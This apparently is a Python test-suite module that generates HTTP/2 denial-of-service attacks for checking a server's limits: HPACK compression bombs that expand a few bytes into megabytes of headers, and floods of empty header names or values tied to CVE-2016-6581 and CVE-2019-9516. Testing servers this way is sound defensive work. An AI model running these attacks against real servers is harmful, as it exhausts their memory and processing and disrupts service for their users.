"""Attacks by header blocks that are small on the wire and large, or endless, behind HPACK."""

from Support.attacks.attacker import Attacker, Seen
from Support.http2 import (
    END_HEADERS, END_STREAM, HEADERS, PREFACE, call_headers, frame, headers, settings)

STREAMS = 2_000
"""Ten times the limit of glitches."""
BOMB_REFERENCES = 12_000
"""Of one byte each in one HEADERS frame, and of 4 KB behind HPACK: 48 MB."""
SMALL_BOMB_REFERENCES = 200
"""The same for each of many streams: 800 KB."""
_OPEN = PREFACE + settings()
_FIRST_DYNAMIC = 62
"""HPACK's index of the newest entry of the dynamic table."""
_VALUE_BYTES = 4_000
"""With its name and 32 bytes it fills the table of 4,096 bytes (RFC 7541 §4.1)."""


def _entry() -> bytes:
    """A header that fills the dynamic table (literal with incremental indexing, new name)."""
    rest = _VALUE_BYTES - 127
    length = bytes([0x7F, rest % 128 + 128, rest // 128])
    return b"\x40\x04bomb" + length + b"b" * _VALUE_BYTES


def _references(count: int) -> bytes:
    return bytes([0x80 | _FIRST_DYNAMIC]) * count


def _blocks(port: int, path: str, first: bytes, others: bytes, streams: int) -> Seen:
    """Calls whose headers are the usual ones and then these."""
    block = headers(call_headers(path))
    flags = END_HEADERS | END_STREAM

    def chunks():
        yield _OPEN + frame(HEADERS, flags, 1, block + first)
        for stream in range(3, 2 * streams, 2):
            yield frame(HEADERS, flags, stream, block + others)

    with Attacker(port) as attacker:
        return attacker.pump(chunks())


def hpack_bomb(port: int, path: str) -> Seen:
    """One table entry of 4 KB, referenced 12,000 times in one block (CVE-2016-6581 and others).

    Stopped by the limit of the header list, 8 KiB uncompressed: the call is refused, and the rest
    of the block is not kept. Repeated, by the limit of glitches.
    """
    return _blocks(port, path, _entry(), _references(BOMB_REFERENCES), STREAMS // 5)


def hpack_bomb_over_many_streams(port: int, path: str) -> Seen:
    """The same in smaller blocks over many streams.

    Stopped by the limit of the header list for each, and by the limit of glitches for all.
    """
    return _blocks(port, path, _entry(), _references(SMALL_BOMB_REFERENCES), STREAMS)


def zero_length_headers(port: int, path: str) -> Seen:
    """Headers without name and value, which cost only their bookkeeping (CVE-2019-9516).

    Stopped by the limit of the header list, which counts 32 bytes for each, or as malformed; then
    by the limit of glitches.
    """
    nameless = b"\x00\x00\x00" * 5_000
    return _blocks(port, path, nameless, nameless, STREAMS)


def zero_length_values(port: int, path: str) -> Seen:
    """Headers with a name and no value, as many as fit a frame. Stopped like those without name."""
    valueless = b"\x00\x01x\x00" * 4_000
    return _blocks(port, path, valueless, valueless, STREAMS)


HEADER_ATTACKS = {each.__name__: each for each in (
    hpack_bomb, hpack_bomb_over_many_streams, zero_length_headers, zero_length_values)}
